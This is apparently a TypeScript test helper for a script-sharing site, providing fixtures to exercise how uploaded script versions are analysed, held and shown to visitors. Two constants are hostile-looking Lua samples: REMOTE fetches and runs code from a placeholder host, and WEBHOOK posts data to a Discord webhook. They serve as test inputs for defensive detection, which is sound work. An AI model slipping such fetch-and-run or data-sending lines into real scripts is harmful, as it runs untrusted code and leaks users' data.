import type { Hold, WaitingVersion } from '#contract/versions.ts'
import { expect } from 'vitest'
import type { Analyzer } from '#server/features/behavior/analyze.ts'
import { createTestApp, type TestApp } from './app.ts'
import { fakeSandboxes } from './fake-sandboxes.ts'
import { makeApiToken, makeMember, makeScript, signIn } from './factories.ts'
import { findInconsistencies, type SignedIn, sendConfirm } from './scripts.ts'

/** A site whose analyzer a test can replace. */
export interface ReleaseSite {
  site: TestApp
  moderator: SignedIn
  /** Set functions to replace those of the analyzer. */
  analyzer: Partial<Analyzer>
  /** Ends what a test replaced. */
  restoreAnalyzer: () => void
  close: () => Promise<void>
}

/** `close` checks that the states of all versions are consistent. */
export async function createReleaseSite(): Promise<ReleaseSite> {
  const analyzer: Partial<Analyzer> = {}
  const published: Analyzer = {
    hash: fakeSandboxes.published.hash,
    analyze: (code) => (analyzer.analyze ?? fakeSandboxes.published.analyze)(code),
    compile: (code) => (analyzer.compile ?? fakeSandboxes.published.compile)(code),
    run: (code) => (analyzer.run ?? fakeSandboxes.published.run)(code),
  }
  const site = await createTestApp({}, { sandboxes: { ...fakeSandboxes, published } })
  return {
    site,
    moderator: await signInModerator(site),
    analyzer,
    restoreAnalyzer() {
      for (const name of ['analyze', 'compile', 'run'] as const) delete analyzer[name]
    },
    async close() {
      expect(await findInconsistencies(site.db)).toEqual([])
      await site.close()
    },
  }
}

let serial = 0
/** Code that no other test has analyzed. */
export const unique = (code: string): string => `${code}\nreturn ${++serial}`
export const HARMLESS = 'print("hello")'
export const REMOTE = 'loadstring(game:HttpGet("https://hub.example/x.lua"))()'
export const WEBHOOK = 'request({ Url = "https://discord.com/api/webhooks/1/x", Method = "POST", Body = "x" })'

export interface Put {
  script: { id: number; slug: string }
  version: { number: number; state: string; held: Hold | null }
}

/** The versions of one script of a new author, who also has an API token. */
export class Author {
  readonly #site: TestApp
  readonly memberId: number
  readonly headers: SignedIn
  readonly token: { authorization: string; id: string }

  private constructor(site: TestApp, memberId: number, headers: SignedIn, token: Author['token']) {
    this.#site = site
    this.memberId = memberId
    this.headers = headers
    this.token = token
  }

  static async create(site: TestApp): Promise<Author> {
    const memberId = await makeMember(site.db)
    const token = await makeApiToken(site.db, memberId)
    return new Author(site, memberId, await signIn(site.db, memberId), token)
  }

  /** With a published first version. */
  make = (content = unique(HARMLESS)): Promise<number> =>
    makeScript(this.#site.db, { author_id: this.memberId, title: 'Lamp', content })

  put = (id: number, payload: object, headers: { authorization: string } = this.token) =>
    this.#site.app.inject({
      method: 'PUT',
      url: `/api/v1/scripts/lamp-${id}/versions`,
      headers: { authorization: headers.authorization },
      payload,
    })

  confirm = (id: number, number: number) => sendConfirm(this.#site, this.headers, id, number)

  discard = (id: number, number: number, was_me = true) =>
    this.#site.app.inject({
      method: 'POST',
      url: '/api/version-discard',
      headers: { ...this.headers },
      payload: { script_id: id, number, was_me },
    })

  async waiting(id: number, headers: object = this.headers): Promise<WaitingVersion | null> {
    const response = await this.#site.app.inject({
      url: `/api/script-details-slug?slug=x-${id}`,
      headers: { ...headers },
    })
    return response.json<{ script: { waiting: WaitingVersion | null } }>().script.waiting
  }
}

export async function signInModerator(site: TestApp): Promise<SignedIn> {
  return signIn(site.db, await makeMember(site.db, { is_moderator: true }))
}

/** State and number of all versions, oldest first. */
export async function statesOf({ pool }: TestApp, id: number): Promise<[number, string][]> {
  const { rows } = await pool.query<{ number: number; state: string }>(
    'select number, state from script_versions where script_id = $1 order by number',
    [id],
  )
  return rows.map(({ number, state }) => [number, state])
}

/** All answers that visitors get about a script, with its code. */
export async function readAsVisitor({ app }: TestApp, id: number, sha256?: string): Promise<string> {
  const urls = [
    `/raw/lamp-${id}`,
    ...(sha256 === undefined ? [] : [`/raw/lamp-${id}?sha256=${sha256}`]),
    ...[1, 2, 3].flatMap((number) => [
      `/raw/lamp-${id}?version=${number}`,
      `/api/script-version?id=${id}&number=${number}`,
      `/api/v1/scripts/lamp-${id}/versions/${number}`,
    ]),
    `/api/script-download?id=${id}`,
    `/api/script-details-slug?slug=lamp-${id}`,
    `/api/v1/scripts/lamp-${id}`,
    `/api/v1/scripts/lamp-${id}/code`,
    `/api/v1/scripts/lamp-${id}/versions`,
    `/api/script-versions?id=${id}`,
    `/api/script-behavior?id=${id}`,
    `/api/script-behavior-changes?id=${id}`,
    `/api/scripts?limit=100`,
    `/embed/lamp-${id}`,
    `/badge/lamp-${id}/version.svg`,
    `/feeds/scripts.json`,
    `/feeds/versions.json?id=${id}`,
    `/feeds/versions.atom?id=${id}`,
  ]
  const responses = await Promise.all(urls.map((url) => app.inject(url)))
  return responses.map(({ statusCode, body }, i) => `${urls[i]} ${statusCode} ${body}`).join('\n')
}
